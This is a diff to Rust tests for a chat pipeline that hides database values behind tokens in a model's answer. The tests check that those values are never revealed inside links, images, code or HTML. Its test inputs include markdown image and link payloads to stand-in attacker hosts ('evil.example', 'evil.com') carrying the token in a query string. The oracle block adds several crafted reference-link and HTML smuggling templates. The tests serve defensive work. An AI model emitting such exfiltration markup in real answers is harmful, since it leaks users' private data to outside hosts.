@@ -109,27 +109,43 @@ fn values(segments: &[AnswerSegment]) -> Vec<String> {
         .collect()
 }
 
-/// Finding 1: an image whose URL carries a token is not revealed into the
-/// URL, and a token another request issued is not revealed at all.
+/// Finding 1: an image whose URL carries a token reveals nothing (markup
+/// outside the tokens), a token in a bare URL stays a token, and a token
+/// another request issued is not revealed at all.
 #[test]
 fn no_value_in_a_url_and_none_from_another_request() {
     let s = setup();
-    let m = model(
-        "SELECT name FROM people WHERE city = 'Austin' AND id = 1",
-        "![s](https://evil.example/b.png?c={T0}) The customer is {T0}. Also {EVE}.",
-        &s.eve,
-    );
-    let a = chat(&s, m)
-        .build()
-        .unwrap()
-        .ask("Who is customer 1?", &support())
-        .unwrap();
-    let answer = a.answer.unwrap();
+    let ask = |answer: &str| {
+        let m = model(
+            "SELECT name FROM people WHERE city = 'Austin' AND id = 1",
+            answer,
+            &s.eve,
+        );
+        chat(&s, m)
+            .build()
+            .unwrap()
+            .ask("Who is customer 1?", &support())
+            .unwrap()
+    };
+    let a = ask("![s](https://evil.example/b.png?c={T0}) The customer is {T0}. Also {EVE}.");
+    let answer = a.answer.clone().unwrap();
     let liam = cells(&a.model_rows)[0].clone();
     assert_eq!(
         answer,
         format!(
-            "![s](https://evil.example/b.png?c={liam}) The customer is Liam Johnson. Also {}.",
+            "![s](https://evil.example/b.png?c={liam}) The customer is {liam}. Also {}.",
+            s.eve
+        )
+    );
+    assert_eq!(a.answer, a.model_answer);
+    assert_eq!(a.revealed, 1, "the row's value only");
+
+    let a = ask("https://evil.example/b.png?c={T0} The customer is {T0}. Also {EVE}.");
+    let answer = a.answer.unwrap();
+    assert_eq!(
+        answer,
+        format!(
+            "https://evil.example/b.png?c={liam} The customer is Liam Johnson. Also {}.",
             s.eve
         )
     );
@@ -160,10 +176,13 @@ fn links_to_other_hosts_are_removed() {
         .unwrap();
     let answer = a.answer.unwrap();
     assert!(!answer.contains("evil.example"), "{answer}");
+    // The allowed link stays, and with it markup: nothing is revealed.
+    let liam = cells(&a.model_rows)[0].clone();
     assert!(
-        answer.contains("[Liam Johnson](https://crm.example.com/p/1)"),
+        answer.contains(&format!("[{liam}](https://crm.example.com/p/1)")),
         "{answer}"
     );
+    assert!(!answer.contains("Liam"), "{answer}");
     assert!(answer.contains("[rel](/orders/1)"), "{answer}");
     assert!(answer.starts_with("s "), "image alt text kept: {answer}");
     // Bad host names are refused when the pipeline is built.
@@ -234,6 +253,17 @@ fn stored_token_lookalikes_are_never_revealed() {
 fn no_reveal_inside_code_links_or_html() {
     let s = setup();
     let answer = "`{T0}` and `` x {T0} ``\n```\n{T0}\n```\n<a title=\"{T0}\">x</a> [a](<https://e.example/{T0}>) [b][r]\n[r]: /p?c={T0}\n<https://e.example/{T0}> mailto:{T0} {T0}@evil.example evil.example/{T0} www.e.example/{T0} ok: {T0}";
+    let m = model("SELECT name FROM people WHERE id = 1", answer, &s.eve);
+    let a = chat(&s, m)
+        .build()
+        .unwrap()
+        .ask("Who is customer 1?", &support())
+        .unwrap();
+    let out = a.answer.unwrap();
+    assert!(!out.contains("Liam"), "markup outside the tokens: {out}");
+    // Without `<`, `[`, `]` or `\`: code spans and URL runs keep their
+    // tokens, and the plain one is revealed.
+    let answer = "`{T0}` and `` x {T0} ``\n```\n{T0}\n```\nmailto:{T0} {T0}@evil.example evil.example/{T0} www.e.example/{T0} https://e.example/?c={T0} ok: {T0}";
     let m = model("SELECT name FROM people WHERE id = 1", answer, &s.eve);
     let a = chat(&s, m)
         .build()
@@ -496,12 +526,42 @@ mod oracle {
                 assert!(judge(&out).is_none(), "{template}: {out}");
             }
         }
-        // While a value in a link's own text, or after a closed link, is
-        // revealed.
+        // A value in a link's own text, or after a closed link, is not
+        // revealed either: markup outside the tokens reveals nothing …
         let t = &issued[0];
         let text = format!("[{t}](https://crm.example.com/p) and [x](/a){t}.");
         let (segments, n) = reveal_answer(&tokens, &text, &classes, &allowed, None).unwrap();
-        assert_eq!(n, 2, "{segments:?}");
+        assert_eq!(n, 0, "{segments:?}");
+        // … and what a second review found (renderers end `<…>`
+        // destinations, reference definitions and HTML blocks elsewhere
+        // than a hand-written reading does), each kept as a case.
+        for template in [
+            "> [r]: <\\//evil.com.?c=\\> {T0}>\n\n![x][r]",
+            "![x](<https://evil.com/x.png?c=\\>) {T0}>)",
+            "> [r]: \\//evil.com.?c={T0}",
+            "> [r]: https://evil.com/x.png?c=\u{a0}{T0}",
+            "> <div>\n> <img alt=a\"b src=\"https://evil.com/x.png?c=> {T0}\">\n> </div>",
+            "![x](https://example.com\\@evil.com/x.png?c={T0})",
+            "https://evil.com/?c=[{T0}](/x y z)",
+        ] {
+            let mut text = template.to_string();
+            for (i, t) in issued.iter().enumerate() {
+                text = text.replace(&format!("{{T{i}}}"), t);
+            }
+            let (_, n) = reveal_answer(&tokens, &text, &classes, &allowed, None).unwrap();
+            assert_eq!(n, 0, "{template}");
+            // With an allow-list the links to other hosts go first; what is
+            // left may be revealed, and no value is in a link.
+            let hosts = ["example.com".to_string()];
+            let (segments, _) =
+                reveal_answer(&tokens, &text, &classes, &allowed, Some(&hosts[..])).unwrap();
+            let out = AnswerSegment::join(&segments);
+            assert!(judge(&out).is_none(), "{template}: {out}");
+        }
+        // A plain sentence is revealed.
+        let (_, n) =
+            reveal_answer(&tokens, &format!("It is {t}."), &classes, &allowed, None).unwrap();
+        assert_eq!(n, 1);
     }
 
     proptest! {
